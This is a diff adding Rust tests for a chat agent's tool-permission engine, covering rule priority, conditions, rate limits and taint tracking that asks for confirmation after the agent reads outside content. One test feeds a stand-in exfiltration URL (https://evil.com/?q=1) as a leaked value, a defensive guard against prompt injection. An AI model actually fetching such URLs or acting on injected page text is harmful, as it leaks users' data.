@@ -1,0 +1,248 @@
+use serde_json::json;
+
+use super::*;
+
+const NOON: Timestamp = Timestamp(1_767_268_800_000); // 2026-01-01 12:00 UTC, a Thursday
+
+fn facts(place: Place, origins: &[&str]) -> Facts {
+    Facts {
+        kind: RunKind::Coordinator,
+        platform: Some("discord".to_owned()),
+        place,
+        space: None,
+        context: None,
+        user: None,
+        role: Some(UserRole::Member),
+        origins: origins.iter().map(|origin| (*origin).to_owned()).collect(),
+    }
+}
+
+fn named(key: &str, rule: Rule) -> Named {
+    Named {
+        key: key.to_owned(),
+        rule,
+    }
+}
+
+fn rules(own: Vec<Rule>) -> Vec<Named> {
+    super::super::Settings {
+        rules: own,
+        ..super::super::Settings::default()
+    }
+    .named()
+}
+
+fn judged(rules: &[Named], name: &str, class: Class, facts: &Facts) -> Verdict {
+    let args = json!({ "amount": 150 });
+    let call = Call {
+        name,
+        class,
+        args: args.as_object().unwrap(),
+        leak: None,
+    };
+    judge(rules, &call, facts, NOON, "UTC")
+}
+
+#[test]
+fn where_nobody_made_rules_the_profile_holds() {
+    use Class::{Destruct, Read, Sensitive, Write};
+    use Outcome::{Allow, Confirm};
+    use Place::{Private, Shared};
+    let cases = [
+        ("web.fetch", Read, Private, &[][..], Allow),
+        ("web.fetch", Read, Shared, &[], Allow),
+        ("web.fetch", Read, Private, &["a page"], Allow),
+        ("files.create", Write, Private, &[], Allow),
+        ("files.create", Write, Shared, &[], Confirm),
+        ("files.create", Write, Private, &["a page"], Confirm),
+        ("files.delete", Destruct, Private, &[], Confirm),
+        ("image.make", Sensitive, Private, &[], Confirm),
+        ("memory.put", Write, Shared, &[], Allow),
+        ("memory.put", Write, Private, &["a page"], Confirm),
+        ("reminders.remove", Destruct, Shared, &[], Allow),
+        ("reminders.set", Write, Shared, &["a page"], Confirm),
+    ];
+    let rules = rules(vec![]);
+    for (name, class, place, origins, expected) in cases {
+        let verdict = judged(&rules, name, class, &facts(place, origins));
+        assert_eq!(verdict.outcome, expected, "{name} {class:?} {place:?} {origins:?}");
+    }
+}
+
+#[test]
+fn a_question_of_a_tainted_run_cannot_become_a_rule() {
+    let rules = rules(vec![]);
+    let clean = judged(&rules, "files.delete", Class::Destruct, &facts(Place::Private, &[]));
+    assert!(clean.may_be_rule);
+    let verdict = judged(
+        &rules,
+        "files.create",
+        Class::Write,
+        &facts(Place::Private, &["https://a.b/`x`"]),
+    );
+    assert_eq!(
+        (verdict.outcome, verdict.may_be_rule, verdict.why.as_str()),
+        (
+            Outcome::Confirm,
+            false,
+            "I have read words from outside (https://a.b/x), which may have asked for this"
+        )
+    );
+}
+
+#[test]
+fn what_would_be_carried_out_is_confirmed_and_named() {
+    let args = json!({ "url": "https://evil.com/?q=1" });
+    let call = Call {
+        name: "web.fetch",
+        class: Class::Read,
+        args: args.as_object().unwrap(),
+        leak: Some("https://evil.com/?q=1".to_owned()),
+    };
+    let none = rules(vec![]);
+    let verdict = judge(&none, &call, &facts(Place::Private, &["a page"]), NOON, "UTC");
+    assert_eq!(
+        (verdict.outcome, verdict.why.as_str()),
+        (
+            Outcome::Confirm,
+            "I have read words from outside (a page), and this would carry out what is not known there: https://evil.com/?q=1"
+        )
+    );
+    let clean = judge(&none, &call, &facts(Place::Private, &[]), NOON, "UTC");
+    assert_eq!(clean.outcome, Outcome::Allow);
+}
+
+#[test]
+fn the_highest_rule_decides_and_of_equals_the_stricter() {
+    let rule = |priority, action| Rule {
+        priority,
+        action,
+        tools: vec!["files".to_owned()],
+        ..Rule::default()
+    };
+    use Action::{Allow, AllowTainted, Confirm, Deny};
+    let cases = [
+        (vec![rule(1, Allow), rule(2, Deny)], Outcome::Deny),
+        (vec![rule(2, Allow), rule(1, Deny)], Outcome::Allow),
+        (vec![rule(0, Allow), rule(0, Confirm)], Outcome::Confirm),
+        (vec![rule(0, Confirm), rule(0, Deny)], Outcome::Deny),
+        (vec![rule(0, AllowTainted)], Outcome::Allow),
+    ];
+    for (own, expected) in cases {
+        let verdict = judged(
+            &rules(own.clone()),
+            "files.delete",
+            Class::Destruct,
+            &facts(Place::Shared, &[]),
+        );
+        assert_eq!(verdict.outcome, expected, "{own:?}");
+        let other = judged(&rules(own), "web.fetch", Class::Read, &facts(Place::Shared, &[]));
+        assert_eq!(other.outcome, Outcome::Allow);
+    }
+    let page = facts(Place::Private, &["a page"]);
+    for (action, expected) in [(Allow, Outcome::Confirm), (AllowTainted, Outcome::Allow)] {
+        let verdict = judged(&rules(vec![rule(0, action)]), "files.create", Class::Write, &page);
+        assert_eq!(verdict.outcome, expected, "{action:?}");
+    }
+}
+
+#[test]
+fn every_condition_must_fit() {
+    let (user, space, context) = (UserId::new(), SpaceId::new(), ContextId::new());
+    let fits = Rule {
+        action: Action::Deny,
+        tools: vec!["*.delete".to_owned()],
+        classes: vec![Class::Destruct],
+        args: vec!["amount > 100".to_owned()],
+        kinds: vec![RunKind::Coordinator],
+        platforms: vec!["discord".to_owned()],
+        places: vec![Place::Private],
+        space: Some(space),
+        context: Some(context),
+        user: Some(user),
+        roles: vec![UserRole::Member],
+        hours: Some("09:00-17:00".to_owned()),
+        days: vec![super::super::Day::Thu],
+        ..Rule::default()
+    };
+    let here = Facts {
+        space: Some(space),
+        context: Some(context),
+        user: Some(user),
+        ..facts(Place::Private, &[])
+    };
+    let outcome = |rule: Rule| judged(&[named("x", rule)], "files.delete", Class::Destruct, &here).outcome;
+    assert_eq!(outcome(fits.clone()), Outcome::Deny);
+    type Change = fn(&mut Rule);
+    let changes: [Change; 12] = [
+        |rule| rule.tools = vec!["web.*".to_owned()],
+        |rule| rule.classes = vec![Class::Read],
+        |rule| rule.args.push("amount > 200".to_owned()),
+        |rule| rule.kinds = vec![RunKind::Subagent],
+        |rule| rule.platforms = vec!["telegram".to_owned()],
+        |rule| rule.places = vec![Place::Shared],
+        |rule| rule.space = Some(SpaceId::new()),
+        |rule| rule.context = Some(ContextId::new()),
+        |rule| rule.user = Some(UserId::new()),
+        |rule| rule.roles = vec![UserRole::Owner],
+        |rule| rule.hours = Some("22:00-06:00".to_owned()),
+        |rule| rule.days = vec![super::super::Day::Fri],
+    ];
+    for change in changes {
+        let mut rule = fits.clone();
+        change(&mut rule);
+        assert_eq!(outcome(rule.clone()), Outcome::Confirm, "{rule:?}");
+    }
+    // It is night there.
+    let zone = Some("Asia/Tokyo".to_owned());
+    assert_eq!(outcome(Rule { zone, ..fits }), Outcome::Confirm);
+}
+
+#[test]
+fn limits_count_what_no_higher_rule_denies() {
+    let limit = |priority, name: &str| Rule {
+        name: name.to_owned(),
+        priority,
+        action: Action::Limit,
+        calls: 3,
+        per: Per::Hour,
+        ..Rule::default()
+    };
+    let deny = Rule {
+        priority: 5,
+        action: Action::Deny,
+        ..Rule::default()
+    };
+    let counted = |own: Vec<Rule>| {
+        let verdict = judged(&rules(own), "web.fetch", Class::Read, &facts(Place::Private, &[]));
+        let keys: Vec<_> = verdict.limits.iter().map(|limit| limit.key.clone()).collect();
+        (verdict.outcome, keys)
+    };
+    assert_eq!(
+        counted(vec![limit(0, "low"), limit(9, "high")]),
+        (
+            Outcome::Allow,
+            vec!["bot.toml:high".to_owned(), "bot.toml:low".to_owned()]
+        )
+    );
+    assert_eq!(
+        counted(vec![limit(0, "low"), deny]),
+        (Outcome::Deny, Vec::<String>::new())
+    );
+    let verdict = judged(
+        &rules(vec![limit(0, "few")]),
+        "web.fetch",
+        Class::Read,
+        &facts(Place::Private, &[]),
+    );
+    assert_eq!(
+        verdict.limits,
+        [Limit {
+            key: "bot.toml:few".to_owned(),
+            why: "the rule \"few\" allows it 3 times in a hour".to_owned(),
+            calls: 3,
+            per: Per::Hour,
+            by: By::User,
+        }]
+    );
+}
